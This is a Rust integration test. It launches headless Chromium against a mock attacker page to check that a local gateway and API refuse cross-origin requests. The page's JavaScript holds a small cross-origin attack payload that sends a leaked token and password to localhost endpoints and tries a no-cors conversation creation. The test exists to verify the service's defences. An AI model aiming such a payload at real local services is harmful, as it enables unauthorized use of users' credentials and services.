//! A real headless Chromium loads a page from another localhost port that
//! tries to use the gateway and the API (GW-2, GW-3, SVC-1): everything is
//! refused, no CORS is granted, nothing reaches the model upstream, nothing is
//! written. Without a chromium binary the test is a counted skip
//! (`ploy_testkit::require_part!`), and a failure under PLOY_TEST_STRICT=1.
#![allow(clippy::disallowed_methods)] // test servers and the browser process
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use ploy_service::{ConfigFlags, RunningService, ServiceConfig, ServiceSection};
use support::cdp::chromium;
use support::{AttackerSite, body, post, raw, status};

/// The attacker's page. It knows the gateway token (worst case: leaked) and
/// the service ports, and reports what it could see to its own origin.
fn attack_page(gw: u16, api: u16, token: &str, password: &str) -> String {
    format!(
        r#"<!doctype html><html><body><script>
const results = {{}};
const chat = JSON.stringify({{model: "m", messages: [{{role: "user", content: "hi"}}]}});
async function attempt(name, url, init) {{
  try {{
    const r = await fetch(url, init);
    let text = "";
    try {{ text = await r.text(); }} catch (e) {{}}
    results[name] = "status=" + r.status + " type=" + r.type + " body=" + text.slice(0, 80);
  }} catch (e) {{
    results[name] = "error=" + e.name;
  }}
}}
(async () => {{
  for (const host of ["127.0.0.1", "localhost"]) {{
    const gwUrl = "http://" + host + ":{gw}/v1/chat/completions";
    const apiUrl = "http://" + host + ":{api}";
    await attempt("gw_cors_token_" + host, gwUrl, {{method: "POST", headers: {{"x-ploy-token": "{token}", "content-type": "application/json"}}, body: chat}});
    await attempt("gw_cors_bearer_" + host, gwUrl, {{method: "POST", headers: {{"authorization": "Bearer {token}", "content-type": "application/json"}}, body: chat}});
    await attempt("gw_simple_" + host, gwUrl, {{method: "POST", headers: {{"content-type": "text/plain"}}, body: chat}});
    await attempt("gw_nocors_" + host, gwUrl, {{method: "POST", mode: "no-cors", headers: {{"content-type": "text/plain"}}, body: chat}});
    await attempt("api_health_" + host, apiUrl + "/v1/health", {{headers: {{"authorization": "Bearer {password}"}}}});
    await attempt("api_token_" + host, apiUrl + "/v1/exec-token", {{method: "POST", headers: {{"authorization": "Bearer {password}"}}}});
    await attempt("api_create_nocors_" + host, apiUrl + "/v1/conversations", {{method: "POST", mode: "no-cors", headers: {{"content-type": "text/plain"}}, body: '{{"title":"pwned"}}'}});
  }}
  await fetch("/report", {{method: "POST", body: JSON.stringify(results)}});
}})();
</script></body></html>"#
    )
}

async fn start_service(state: &Path, upstream: &str) -> RunningService {
    let section = ServiceSection {
        upstream: Some(upstream.to_string()),
        ..Default::default()
    };
    let config =
        ServiceConfig::load(section, ConfigFlags::default(), Some(state.to_path_buf())).unwrap();
    RunningService::start(config, None).await.unwrap()
}

// proves: GW-2, GW-3, SVC-1
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_in_headless_chromium_on_another_localhost_port_is_refused() {
    let chromium = ploy_testkit::require_part!("chromium", chromium());
    let state = tempfile::tempdir().unwrap();
    let profile = tempfile::tempdir().unwrap();
    let upstream = support::upstream(1, 0).await;
    let service = start_service(state.path(), &upstream.url()).await;
    let file: ploy_service::ServiceFile =
        serde_json::from_str(&std::fs::read_to_string(service.service_file()).unwrap()).unwrap();
    let api = service.api_addr();
    let gw = service.gateway_addr();
    // The real token, fetched the way `ploy exec` does.
    let answer = raw(
        api,
        &post(
            &format!("127.0.0.1:{}", api.port()),
            "/v1/exec-token",
            &[&format!("authorization: Bearer {}", file.password)],
            "",
        ),
    )
    .await;
    assert_eq!(status(&answer), 200);
    let token: serde_json::Value = serde_json::from_str(&body(&answer)).unwrap();
    let token = token["token"].as_str().unwrap().to_string();

    let page = attack_page(gw.port(), api.port(), &token, &file.password);
    let site = AttackerSite::start(page).await;
    let mut browser = tokio::process::Command::new(&chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--no-first-run",
            "--disable-dev-shm-usage",
            "--no-proxy-server",
            &format!("--user-data-dir={}", profile.path().display()),
            &format!("http://127.0.0.1:{}/page", site.port()),
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    let report = loop {
        if let Some(report) = site.report() {
            break report;
        }
        assert!(
            Instant::now() < deadline,
            "the page never reported (chromium did not run it)"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let _ = browser.kill().await;
    let results: serde_json::Map<String, serde_json::Value> =
        serde_json::from_str(&report).unwrap();
    eprintln!("what the page saw: {results:#?}");
    assert_eq!(results.len(), 14, "{results:?}");
    for (name, outcome) in &results {
        let outcome = outcome.as_str().unwrap();
        // Either the browser blocked it (no CORS grant: TypeError) or the
        // answer is opaque (status 0, nothing readable). Never a readable 2xx.
        assert!(
            outcome.starts_with("error=TypeError")
                || outcome.starts_with("status=0 type=opaque body="),
            "{name}: {outcome}"
        );
        assert!(
            !outcome.contains("part0") && !outcome.contains(&token),
            "{name}: {outcome}"
        );
    }
    // Nothing reached the model, nothing was written.
    assert_eq!(
        upstream.requests().len(),
        0,
        "a page's request reached the upstream"
    );
    let store = ploy_store::Store::open(state.path().join("ploy.db")).unwrap();
    assert!(
        store.list_conversations().unwrap().is_empty(),
        "a page created a conversation"
    );
    service.shutdown().await.unwrap();
}
